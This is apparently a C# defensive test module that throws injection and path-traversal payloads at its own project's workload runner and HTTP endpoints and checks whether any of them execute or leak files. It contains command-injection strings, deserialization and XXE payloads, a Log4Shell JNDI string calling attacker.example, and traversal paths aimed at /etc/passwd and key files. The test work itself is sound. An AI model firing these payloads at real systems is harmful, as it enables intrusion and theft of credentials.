using System.Diagnostics;
using System.Net;
using System.Text;
using Aitbc.Primitives;
using Aitbc.Workloads;

namespace Aitbc.Cli.Threats;

/// <summary>ASI05: specs, data, names and paths that would be run, opened or followed by something careless.</summary>
internal static class CodeExecution
{
    private const string Marker = "aitbc-threat-was-here";

    private static readonly string[] Texts =
    [
        $"$(touch {Marker})", $"`touch {Marker}`", $"; touch {Marker}", $"| touch {Marker}", $"\n!touch {Marker}\n",
        $"{{{{7*7}}}}{Marker}", $"__import__('os').system('touch {Marker}')", "=cmd|' /C calc'!A0",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "\u0000", "\u202Etxt.exe",
        "cos\nsystem\n(S'touch x'\ntR.", "{\"$type\":\"System.Diagnostics.Process, System\"}",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "%s%s%n",
        "${jndi:ldap://attacker.example/a}",
    ];

    private static readonly string[] Paths =
    [
        "/../../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd",
        "/assets/..%2f..%2foperator.token", "/assets/%2e%2e/%2e%2e/keys/host.key", "/%252e%252e/genesis.json",
        "/assets/....//....//keys", "//etc/passwd", "/v1/blobs/..%2f..%2fkeys%2fhost.key", "/keys/host.key",
        "/v1/blobs/%00", "/operator.token", "/journal/", "/.git/config",
    ];

    public static async Task RunAsync(ThreatRun run)
    {
        var children = ChildCount();
        File.Delete(Marker);
        TrySpecs(run);
        run.Count("a file was made", File.Exists(Marker));
        run.Count("a process was started", ChildCount() > children);
        await TryPathsAsync(run).ConfigureAwait(false);
        await TryNamesAsync(run).ConfigureAwait(false);
        await run.WorksAsync(run.Field.Sign(run.Field.Owner, GoalHijack.Pay(run.Field.Merchant, 1)))
            .ConfigureAwait(false);
    }

    /// <summary>Each as the whole spec, as a member of one, and as the data.</summary>
    private static void TrySpecs(ThreatRun run)
    {
        Label[] capabilities =
        [
            WorkloadCapabilities.DataCurate, WorkloadCapabilities.ClassifierTrain,
            WorkloadCapabilities.ClassifierInfer, Label.Parse("shell.run"),
        ];
        foreach (var capability in capabilities)
        {
            foreach (var text in Texts)
            {
                var data = Encoding.UTF8.GetBytes(text);
                string[] specs =
                [
                    text,
                    Spec(capability, $"\"source\":{System.Text.Json.JsonSerializer.Serialize(text)}"),
                    Spec(capability, $"\"source\":\"{Digest.Sha256(data)}\""),
                    Spec(capability, $"\"trainingSet\":\"{Digest.Sha256(data)}\""),
                    Spec(capability, $"\"model\":\"{Digest.Sha256(data)}\",\"rows\":\"{Digest.Sha256(data)}\""),
                ];
                foreach (var spec in specs)
                {
                    var outcome = WorkloadRunner.Run(
                        capability, Encoding.UTF8.GetBytes(spec), _ => data, CancellationToken.None);
                    run.Count($"'{text}' made a result of {capability}", outcome is WorkloadResult);
                }
            }
        }
    }

    private static string Spec(Label capability, string members) =>
        $$"""{"capability":"{{capability}}","version":1,{{members}}}""";

    private static async Task TryPathsAsync(ThreatRun run)
    {
        foreach (var path in Paths)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, new Uri(
                run.Field.Client.BaseAddress!.GetLeftPart(UriPartial.Authority) + path,
                new UriCreationOptions { DangerousDisablePathAndQueryCanonicalization = true }));
            using var answer = await run.Field.Client.SendAsync(request).ConfigureAwait(false);
            var text = await answer.Content.ReadAsStringAsync().ConfigureAwait(false);
            run.Count(
                $"{path} gave a file away",
                answer.StatusCode == HttpStatusCode.OK && !text.Contains("<html", StringComparison.OrdinalIgnoreCase));
            run.Fault(path, answer.StatusCode);
        }
    }

    /// <summary>In the place of a name, inside a payload that is signed as it should be.</summary>
    private static async Task TryNamesAsync(ThreatRun run)
    {
        var field = run.Field;
        var honest = Encoding.UTF8.GetString(field.Write(field.Attacker, new Writing(), Market.Service()));
        foreach (var text in Texts)
        {
            var name = System.Text.Json.JsonSerializer.Serialize(text);
            var altered = honest.Replace("\"helper\"", name, StringComparison.Ordinal);
            await run.TryAsync(
                    "a service named as a command",
                    ThreatField.Sign(field.Attacker.Key, Encoding.UTF8.GetBytes(altered)))
                .ConfigureAwait(false);
        }
    }

    private static int ChildCount()
    {
        using var me = Process.GetCurrentProcess();
        var list = $"/proc/{me.Id}/task/{me.Id}/children";
        return File.Exists(list) ? File.ReadAllText(list).Split(' ', StringSplitOptions.RemoveEmptyEntries).Length : 0;
    }
}
